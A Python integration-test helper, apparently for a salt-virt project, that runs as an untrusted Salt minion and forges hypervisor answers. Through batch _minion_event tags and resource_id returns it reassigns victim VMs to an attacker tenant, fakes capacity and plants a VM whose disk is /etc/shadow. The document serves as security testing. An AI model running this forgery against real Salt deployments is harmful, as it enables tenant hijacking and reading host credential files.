"""A guest's root answering for the hypervisors (tests/integration/test_authority.py): a standalone program
run with the config of an accepted minion that is *not* a hypervisor (its own id and pki_dir).

It signs in with its own key, reads every publication (zeromq's defaults: every minion decrypts every
one), and for each one to other minions answers first in each target's name, both ways Salt 3008.5
leaves open:

* ``event``: one ``_minion_event`` in the batch ``events`` form, tag ``salt/job/<jid>/ret/<target>``
  (MINION_EVENT_BLACKLIST covers ``salt/job/*/return``, not ``.../ret/*``), data ``{id: <target>, ...}``;
* ``return``: its own authenticated ``_return`` with ``resource_id: <target>``: the master puts that in
  place of its id, then fires ``salt/job/<jid>/ret/<target>`` and writes the job cache.

What it says (:func:`lie`) is what would fool a runner that believes the bus: the victims belong to the
attacker's tenant and nothing else exists (visibility, quota), the ready nonce is confirmed, the record
holds the attacker's VM, the job checks say the job is gone. A ``virt.answer`` publication carries the
runner's nonce: the lie then goes in a salt-virt answer for that nonce, signed with the guest's own key
(the best it can do). Every forgery is logged as a JSON line: ``{jid, hv, pub_fun, fun, via, return}``.

    python -m tests.support.forger --config-dir DIR --log FILE --tenant acme --creator alice --victim b1
"""

import argparse
import asyncio
import json
import os
import signal
import sys
import time
import traceback

# the library (the answer format) and this package, whatever the working directory
ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
sys.path[:0] = [os.path.join(ROOT, "_utils"), ROOT]

JOB_CHECK = "saltutil.find_job"


def fake_host(hv):
    """A big empty host, complete enough for placement to pick it."""
    node = {"cpus": 64, "phymemory": 262144, "cpumodel": "x86_64", "mhz": 3000}
    return {
        "hostname": hv,
        "uri": "qemu:///system",
        "hypervisor": "QEMU",
        "node": node,
        "mem_total": 262144,
        "mem_used_by_vms": 0,
        "vcpus_total": 64,
        "vcpus_used_by_vms": 0,
        "mem_defined": 0,
        "vcpus_defined": 0,
        "vms_active": 0,
        "vms_defined": 0,
        "groups": {},
        "images_dir": "/srv/salt-images",
        "disk_free": 10485760,
    }


def fake_vm(plan):
    """A victim as the attacker's own, sized 0: visible to it, and costing its quota nothing."""
    owner = {"tenant": plan["tenant"], "creator": plan["creator"]}
    return {"owner": owner, "state": "running", "cpu": 0, "mem": 0, "disks": {}, "nics": {}, "group": None}


def fake_record(hv):
    """A record in which the host runs the attacker's VM with a host file as its disk."""
    xml = (
        "<domain type='qemu'><name>planted</name><memory unit='MiB'>64</memory><vcpu>1</vcpu>"
        "<os><type arch='x86_64'>hvm</type></os><devices><disk type='file' device='disk'>"
        "<source file='/etc/shadow'/><target dev='vda' bus='virtio'/></disk></devices></domain>"
    )
    vm = {"uuid": "00000000-0000-4000-8000-00000000beef", "state": "running", "persistent": True}
    vm.update(autostart=True, cpu=1, mem=64, group=None, boot_files=[], disks={"vda": "/etc/shadow"}, xml=xml)
    return {"hostname": hv, "images_dir": "/", "storage": {}, "vms": {"planted": vm}}


def lie(fun, args, hv, plan):
    """What ``hv`` should seem to answer to ``fun(*args)`` (read fleet/tenants.py, quota.py, assign.py,
    recovery*.py for why each one matters)."""
    victims = {name: fake_vm(plan) for name in plan["victims"]}
    lies = {
        # tenants.visible/locate: the victims are the attacker's; quota.count: none of its own VMs exist
        "virt.full_info": {"host": fake_host(hv), "vm_info": victims},
        "virt.capacity": {"host": fake_host(hv), "vm_info": {}},  # placement: an empty, huge host
        "virt.host_info": fake_host(hv),
        "virt.vm_state": {},  # an operator's locate, assign.plan: nothing is defined here
        "virt.vm_info": {},
        "virt.ready_confirm": True,  # assign.confirm_ready: "yes, I sent that ready event"
        "virt.recovery_record": fake_record(hv),  # recovery.refresh stores what the host "runs"
        "virt.recovery_where": [],  # recovery_guard.last_look: no copy here, start another
        "virt.update": {"definition": True, "cpu": True, "mem": False, "changes": {}},
        "virt.init": {"name": (args or ["?"])[0], "seed": False, "vm_info": {}},
        JOB_CHECK: {},  # "that job is not running here": give up on the real hypervisor
    }
    return lies.get(fun, True)  # virt.purge, virt.stop, ...: "done"


def publication(load):
    """``(publication's fun, asked fun, args, nonce)`` of a publication load: the runner's ``virt.answer``
    carries the asked function and the nonce in its keyword arguments (packed into ``arg`` by Salt)."""
    arg = list(load.get("arg") or [])
    kwarg = {}
    for item in arg:
        if isinstance(item, dict) and item.get("__kwarg__"):
            kwarg.update({k: v for k, v in item.items() if k != "__kwarg__"})
    plain = [a for a in arg if not (isinstance(a, dict) and a.get("__kwarg__"))]
    fun = load.get("fun")
    if fun == "virt.answer" and isinstance(kwarg.get("fun"), str):
        return fun, kwarg["fun"], list(kwarg.get("args") or []), str(kwarg.get("nonce"))
    return fun, fun, plain, None


class Forger:
    def __init__(self, opts, plan, log_path):
        self.opts, self.plan = opts, plan
        self.log = open(log_path, "a", buffering=1, encoding="utf-8")  # noqa: SIM115 - open for the process's life
        self.events = self.returns = self.pub = None

    def close(self):
        for channel in (self.pub, self.events, self.returns):
            if channel is not None:
                channel.close()
        self.log.close()

    def note(self, **entry):
        self.log.write(json.dumps(dict(entry, t=time.time()), default=str) + "\n")

    async def start(self):
        import salt.channel.client
        import tornado.ioloop

        io_loop = tornado.ioloop.IOLoop.current()
        # two request channels: the batch event and the returns go out side by side
        self.events = salt.channel.client.AsyncReqChannel.factory(self.opts, io_loop=io_loop)
        self.returns = salt.channel.client.AsyncReqChannel.factory(self.opts, io_loop=io_loop)
        self.pub = salt.channel.client.AsyncPubChannel.factory(self.opts, io_loop=io_loop)
        self.pub.event.destroy()  # no minion daemon here: no minion event bus to tell of the connection
        self.pub.event = None
        await self.pub.connect()  # signs in with its own key (auto_accept, or a key accepted beforehand)
        self.pub.on_recv(self.on_publication)
        for channel in (self.events, self.returns):  # connected and signed in before the first publication
            await channel.send({"cmd": "_minion_event", "id": self.opts["id"], "tag": "forger/up", "data": {}})
        self.note(ready=True, id=self.opts["id"], pid=os.getpid())

    async def on_publication(self, payload):
        load = (payload or {}).get("load")
        if not isinstance(load, dict) or not load.get("jid"):
            return
        try:
            await self.forge(load)
        except Exception:  # noqa: BLE001 - one failed forgery must not stop the next
            self.note(error=traceback.format_exc(), jid=load.get("jid"))

    async def forge(self, load):
        from saltvirt.pki import answers

        jid, tgt = str(load["jid"]), load.get("tgt")
        targets = [t for t in (tgt if isinstance(tgt, list) else [tgt]) if isinstance(t, str) and t != self.opts["id"]]
        if not targets or load.get("tgt_type", "glob") not in ("list", "glob"):
            return
        pub_fun, fun, args, nonce = publication(load)
        said = {}
        for hv in targets:
            said[hv] = lie(fun, args, hv, self.plan)
            if nonce is not None:  # the runner's nonce, signed with this guest's key in the hypervisor's name
                said[hv] = answers.sign(self.opts["pki_dir"], hv, fun, nonce, said[hv])
        base = {"jid": jid, "fun": pub_fun, "fun_args": load.get("arg") or [], "retcode": 0, "success": True}
        events = [
            {"tag": f"salt/job/{jid}/ret/{hv}", "data": dict(base, id=hv, **{"return": ret})}
            for hv, ret in said.items()
        ]
        batch = {"cmd": "_minion_event", "id": self.opts["id"], "pretag": None, "events": events}
        returns = [
            dict(base, cmd="_return", id=self.opts["id"], resource_id=hv, **{"return": ret}) for hv, ret in said.items()
        ]
        sent = await asyncio.gather(
            self.events.send(batch), *(self.returns.send(r) for r in returns), return_exceptions=True
        )
        for hv, ret in said.items():
            for via, outcome in (("event", sent[0]), ("return", sent[1 + list(said).index(hv)])):
                failed = repr(outcome) if isinstance(outcome, BaseException) else None
                self.note(jid=jid, hv=hv, pub_fun=pub_fun, fun=fun, via=via, failed=failed, **{"return": ret})


def minion_opts(config_dir):
    import salt.config
    import salt.minion

    opts = salt.config.minion_config(os.path.join(config_dir, "minion"))
    opts.update(salt.minion.resolve_dns(opts))  # master_ip, master_uri
    opts["auth_events"] = False  # no minion daemon here: no minion event bus to tell of a sign-in
    return opts


async def main(argv=None):
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--config-dir", required=True)
    parser.add_argument("--log", required=True)
    parser.add_argument("--tenant", required=True, help="the tenant the victims are said to belong to")
    parser.add_argument("--creator", required=True)
    parser.add_argument("--victim", action="append", default=[])
    ns = parser.parse_args(argv)
    plan = {"tenant": ns.tenant, "creator": ns.creator, "victims": ns.victim}
    forger = Forger(minion_opts(ns.config_dir), plan, ns.log)
    stop = asyncio.Event()
    asyncio.get_running_loop().add_signal_handler(signal.SIGTERM, stop.set)
    try:
        await forger.start()
    except Exception:
        forger.note(error=traceback.format_exc())
        raise
    await stop.wait()
    forger.close()


if __name__ == "__main__":
    asyncio.run(main())
